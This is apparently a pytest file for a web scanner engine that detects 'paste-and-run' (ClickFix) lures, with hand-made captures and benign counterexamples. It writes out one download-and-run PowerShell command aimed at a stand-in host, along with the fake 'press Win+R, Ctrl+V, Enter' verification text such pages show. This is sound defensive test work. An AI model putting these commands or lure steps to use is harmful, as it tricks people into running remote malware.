"""Engine "paste-and-run": hand-made captures for the rule, then the lure corpus scanned for real.

The corpus tests assert what the scanner recorded (the exact clipboard text, the API that wrote
it, what the scanner clicked), what the classifier made of it (kind, URLs) and the instructions
the engine found, for every lure of tests/testweb/sites/lures.py; the hard negatives beside them
(an install page's Copy button, a curl | sh from the tool's own domain, a genuine human check)
must stay clean.
"""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from spyglass.analyze.verdicts.base import EngineResult, Inputs
from spyglass.analyze.verdicts.paste_run import paste_and_run
from spyglass.capture.browser import BrowserPool
from spyglass.models import ClipboardWrite, Download, RawCapture, ScanOptions, Verdicts
from tests.analyze.verdicts.conftest import CorpusReport
from tests.capture.clipboard_sentinel import sentinel_clipboard
from tests.conftest import report_of, sha256
from tests.testweb import TestWeb
from tests.testweb.sites import lures
from tests.testweb.sites.lures import INSTALLERS, PAYLOAD_URLS, PAYLOADS

AT = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)

RUN_DIALOG = "Verification Steps\n1. Press Windows Button + R\n2. Press CTRL + V\n3. Press Enter"


def judge(
    url: str, text: str, writes: list[str], downloads: list[Download] | None = None
) -> EngineResult:
    capture = RawCapture(
        url=url,
        final_url=url,
        started_at=AT,
        finished_at=AT,
        text=text,
        dom=f"<html><body><main>{text}</main></body></html>",
        clipboard=[
            ClipboardWrite(text=w, api="clipboard.writeText", url=url, timestamp=AT.timestamp())
            for w in writes
        ],
        downloads=downloads or [],
    )
    return paste_and_run(Inputs(report=report_of(capture), capture=capture))


# --------------------------------------------------------------------------- the rule


def test_download_and_run_with_run_dialog_steps_is_malicious() -> None:
    command = 'powershell -c "iwr https://cdn.example/s.ps1 | iex"'
    result = judge("https://lure.test/", RUN_DIALOG, [command])

    assert result.malicious and result.categories == ["paste-and-run"]
    assert result.score == 90
    (evidence,) = result.evidence
    assert evidence.reason == (
        "page put a PowerShell command in the clipboard that downloads and runs "
        "https://cdn.example/s.ps1, and tells the visitor to press Win+R, paste with Ctrl+V "
        "and press Enter"
    )
    assert evidence.detail["instructions"] == ["win+r", "ctrl+v", "press-enter"]
    assert evidence.detail["urls"] == ["https://cdn.example/s.ps1"]


def test_a_hidden_command_is_malicious_without_any_instructions() -> None:
    result = judge("https://blog.test/", "Nothing to see here", [PAYLOADS["lure-conhost-id"]])

    assert result.malicious and result.score == 90
    assert "clickfix" in result.tags
    detail = result.evidence[0].detail
    assert detail["decoyComment"] == "✅ I am not a robot - reCAPTCHA Verification ID: 4821"
    assert {"decoy-comment", "headless-console"} <= set(detail["techniques"])


def test_hidden_command_and_lure_text_score_highest() -> None:
    result = judge("https://lure.test/", RUN_DIALOG, [PAYLOADS["lure-cloudflare-enc"]])
    assert result.malicious and result.score == 100


def test_installer_one_liner_from_the_sites_own_domain_is_benign() -> None:
    result = judge(
        "https://rustlang.test/tools/install",
        "Run the following in your terminal, then follow the on-screen instructions.",
        [PAYLOADS["benign-docs-rustup"]],
    )
    assert result == EngineResult(engine="paste-and-run")


def test_the_same_one_liner_behind_a_human_check_is_malicious() -> None:
    result = judge(
        "https://rustlang.test/",
        "Verify you are human by completing the action below.",
        [PAYLOADS["benign-docs-rustup"]],
    )
    assert result.malicious
    assert result.evidence[0].detail["instructions"] == ["verify-human"]


def test_one_liner_from_another_site_without_a_lure_is_only_suspicious() -> None:
    brew = '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'
    result = judge("https://brew.test/", "Paste that in a macOS Terminal prompt.", [brew])

    assert not result.malicious and result.categories == []
    assert result.score == 40
    assert "from another site" in result.evidence[0].reason


@pytest.mark.parametrize(
    "command",
    [
        "pip install requests",
        "npm install react",
        "curl -fsSL https://get.docker.com -o get-docker.sh",
        "git clone https://github.com/psf/requests.git",
        "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser",
    ],
)
def test_ordinary_commands_are_not_evidence_even_behind_lure_text(command: str) -> None:
    assert judge("https://docs.test/", RUN_DIALOG, [command]).score == 0


def test_run_dialog_steps_without_a_clipboard_write_are_suspicious() -> None:
    result = judge("https://lure.test/", RUN_DIALOG, [])
    assert not result.malicious and result.score == 40
    assert result.evidence[0].kind == "run-dialog-instructions"


def test_a_human_check_alone_is_nothing() -> None:
    result = judge("https://forum.test/", "Verify you are human. I'm not a robot", [])
    assert result.score == 0 and not result.evidence


def test_meeting_app_installer_from_a_lookalike_domain_is_malicious() -> None:
    download = Download(
        url="https://zoom-interview.test/download/ZoomInstallerFull.exe",
        suggested_filename="ZoomInstallerFull.exe",
        sha256="ab" * 32,
    )
    result = judge("https://zoom-interview.test/j/1", "Zoom: update required", [], [download])

    assert result.malicious and result.tags == ["fake-meeting-app"]
    (evidence,) = result.evidence
    assert evidence.kind == "meeting-app-download"
    assert evidence.reason == (
        "page impersonating Zoom offers the installer ZoomInstallerFull.exe from "
        "zoom-interview.test (Zoom is served from zoom.com, zoom.us, zoomgov.com) "
        "with the pretext “update required”"
    )
    assert evidence.detail["sha256"] == "ab" * 32


def test_the_vendors_own_installer_is_not_evidence() -> None:
    download = Download(
        url="https://zoom.us/client/latest/ZoomInstallerFull.exe",
        suggested_filename="ZoomInstallerFull.exe",
    )
    result = judge("https://zoom.us/download", "Zoom Workplace: update required", [], [download])
    assert result.score == 0


# --------------------------------------------------------------------------- the corpus

LURES = [s.name for s in lures.CORPUS if s.label == "paste-and-run"]
CLIPBOARD_LURES = [name for name in LURES if name in PAYLOADS]

# sample -> (API that writes it, classification kind, instructions the page gives)
EXPECTED: dict[str, tuple[str, str, set[str]]] = {
    "lure-recaptcha-click": (
        "clipboard.writeText",
        "powershell",
        {"not-a-robot", "verify-human", "win+r", "ctrl+v", "press-enter"},
    ),
    "lure-cloudflare-enc": (
        "clipboard.writeText",
        "powershell",
        {"verify-human", "win+r", "ctrl+v", "press-enter"},
    ),
    "lure-meet-mshta": (
        "clipboard.writeText",
        "mshta",
        {"fix-it", "win+r", "run-dialog", "ctrl+v", "press-enter"},
    ),
    "lure-macos-terminal": ("clipboard.writeText", "shell", {"verify-human", "open-terminal"}),
    "lure-macos-osascript": ("clipboard.write", "osascript", {"open-terminal", "ctrl+v"}),
    "lure-base64-bash": ("clipboard.writeText", "shell", {"verify-human", "open-terminal"}),
    "lure-word-execcommand": ("execCommand", "powershell", {"fix-it", "win+x", "ctrl+v"}),
    "lure-copy-event": (
        "copy-event",
        "powershell",
        {"win+r", "run-dialog", "ctrl+v", "press-enter"},
    ),
    "lure-conhost-id": (
        "execCommand",
        "cmd",
        {"not-a-robot", "win+r", "ctrl+v", "press-enter"},
    ),
}


def engine_result(report_verdicts: Verdicts) -> dict:
    """The engine's result as the document has it."""
    (result,) = [v for v in report_verdicts.engines.verdicts if v.engine == "paste-and-run"]
    return result.model_dump(mode="json")


def test_every_clipboard_lure_has_its_expectations() -> None:
    assert set(EXPECTED) == set(CLIPBOARD_LURES)
    assert set(LURES) == set(CLIPBOARD_LURES) | set(INSTALLERS)
    assert len(LURES) >= 8


@pytest.mark.parametrize("name", LURES)
async def test_lure_is_paste_and_run(name: str, corpus_report: CorpusReport) -> None:
    scanned = await corpus_report(name)
    verdicts = scanned.report.verdicts

    assert scanned.capture.failure is None, scanned.capture.failure
    assert verdicts.overall.malicious, verdicts.spyglass.reasons
    assert "paste-and-run" in verdicts.overall.categories
    ours = engine_result(verdicts)
    assert ours["malicious"] and ours["categories"] == ["paste-and-run"]
    assert ours["evidence"][0]["reason"] in verdicts.spyglass.reasons


@pytest.mark.parametrize("name", CLIPBOARD_LURES)
async def test_lure_clipboard_text_classification_and_instructions(
    name: str, corpus_report: CorpusReport
) -> None:
    scanned = await corpus_report(name)
    api, kind, instructions = EXPECTED[name]

    assert scanned.capture.clipboard, "the page wrote nothing the scan recorded"
    assert {w.text for w in scanned.capture.clipboard} == {PAYLOADS[name]}
    assert {w.api for w in scanned.capture.clipboard} == {api}
    entry = scanned.report.clipboard[0]
    assert entry.text == PAYLOADS[name]
    assert entry.url == scanned.capture.final_url
    assert entry.time and entry.time.endswith("Z")
    classification = entry.classification
    assert classification.kind == kind
    assert classification.dangerous and classification.downloads_and_runs
    assert classification.urls == PAYLOAD_URLS[name]
    evidence = engine_result(scanned.report.verdicts)["evidence"][0]
    assert evidence["kind"] == "clipboard-command"
    assert evidence["detail"]["text"] == PAYLOADS[name]
    assert instructions <= set(evidence["detail"]["instructions"])
    assert PAYLOAD_URLS[name][0] in evidence["reason"]


async def test_encoded_powershell_is_decoded(corpus_report: CorpusReport) -> None:
    scanned = await corpus_report("lure-cloudflare-enc")
    classification = scanned.report.clipboard[0].classification

    assert classification.decoded == lures.CLOUDFLARE_INNER
    assert {"encoded-command", "hidden-window"} <= set(classification.stealth)
    assert classification.inner and classification.inner.kind == "powershell"


async def test_base64_payload_is_decoded(corpus_report: CorpusReport) -> None:
    scanned = await corpus_report("lure-base64-bash")
    classification = scanned.report.clipboard[0].classification

    assert classification.decoded == lures.BASE64_INNER
    assert classification.inner and classification.inner.kind == "shell"
    assert "base64-decode" in classification.stealth


async def test_pastejacking_records_the_swapped_command_not_the_shown_one(
    corpus_report: CorpusReport,
) -> None:
    scanned = await corpus_report("lure-copy-event")

    assert "ipconfig /flushdns" in scanned.report.text
    assert [w.text for w in scanned.capture.clipboard] == [PAYLOADS["lure-copy-event"]]
    assert any("Copy" in c for c in scanned.capture.clicked)


async def test_click_only_lure_writes_nothing_until_clicked(
    pool: BrowserPool, web: TestWeb, corpus_report: CorpusReport
) -> None:
    untouched = await pool.capture(
        web.url("recaptcha-verify.test", "/", https=True), ScanOptions(interact=False)
    )
    assert untouched.failure is None
    assert untouched.clicked == []
    assert untouched.clipboard == []

    clicked = await corpus_report("lure-recaptcha-click")
    assert any("not a robot" in label for label in clicked.capture.clicked)
    assert [w.text for w in clicked.capture.clipboard] == [PAYLOADS["lure-recaptcha-click"]]


async def test_lures_leave_the_hosts_clipboard_untouched(pool: BrowserPool, web: TestWeb) -> None:
    """Every API a lure writes with (writeText, write, execCommand, copy event) is recorded and
    never reaches the browser's clipboard, which all its contexts share."""
    async with sentinel_clipboard(pool, web) as untouched:
        for name in (
            "lure-cloudflare-enc",
            "lure-macos-osascript",
            "lure-word-execcommand",
            "lure-copy-event",
            "lure-conhost-id",
        ):
            sample = next(s for s in lures.CORPUS if s.name == name)
            capture = await pool.capture(web.url(sample.host, sample.path, https=True))
            assert {w.text for w in capture.clipboard} == {PAYLOADS[name]}
        assert await untouched()


@pytest.mark.parametrize("name", sorted(INSTALLERS))
async def test_fake_meeting_app_installer(name: str, corpus_report: CorpusReport) -> None:
    scanned = await corpus_report(name)
    filename, _ = INSTALLERS[name]

    assert scanned.capture.clipboard == []
    offered = [d for d in scanned.capture.downloads if d.suggested_filename == filename]
    assert offered and offered[0].saved
    assert offered[0].sha256 == sha256(lures.installer_bytes(filename))
    evidence = engine_result(scanned.report.verdicts)["evidence"]
    assert {e["kind"] for e in evidence} == {"meeting-app-download"}
    assert evidence[0]["detail"]["filename"] == filename
    assert evidence[0]["detail"]["sha256"] == offered[0].sha256
    assert filename in evidence[0]["reason"]


async def test_install_docs_copy_button_is_benign(corpus_report: CorpusReport) -> None:
    scanned = await corpus_report("benign-docs-pip")

    assert any("Copy" in label for label in scanned.capture.clicked)
    assert [w.text for w in scanned.capture.clipboard] == ["pip install requests"]
    assert scanned.report.clipboard[0].classification.dangerous is False
    assert engine_result(scanned.report.verdicts)["score"] == 0
    assert not scanned.report.verdicts.overall.malicious


async def test_curl_pipe_sh_from_the_tools_own_domain_is_benign(
    corpus_report: CorpusReport,
) -> None:
    scanned = await corpus_report("benign-docs-rustup")

    assert [w.text for w in scanned.capture.clipboard] == [PAYLOADS["benign-docs-rustup"]]
    classification = scanned.report.clipboard[0].classification
    assert classification.kind == "shell" and classification.downloads_and_runs
    assert classification.hosts == ["sh.rustlang.test"]
    assert engine_result(scanned.report.verdicts)["score"] == 0
    assert not scanned.report.verdicts.overall.malicious


async def test_genuine_human_check_is_benign(corpus_report: CorpusReport) -> None:
    scanned = await corpus_report("benign-verify-human")

    assert any("Verify you are human" in label for label in scanned.capture.clicked)
    assert scanned.capture.clipboard == [] and scanned.report.clipboard == []
    assert "Latest topics" in scanned.report.text  # the click let the visitor in
    assert engine_result(scanned.report.verdicts)["score"] == 0
    assert not scanned.report.verdicts.overall.malicious
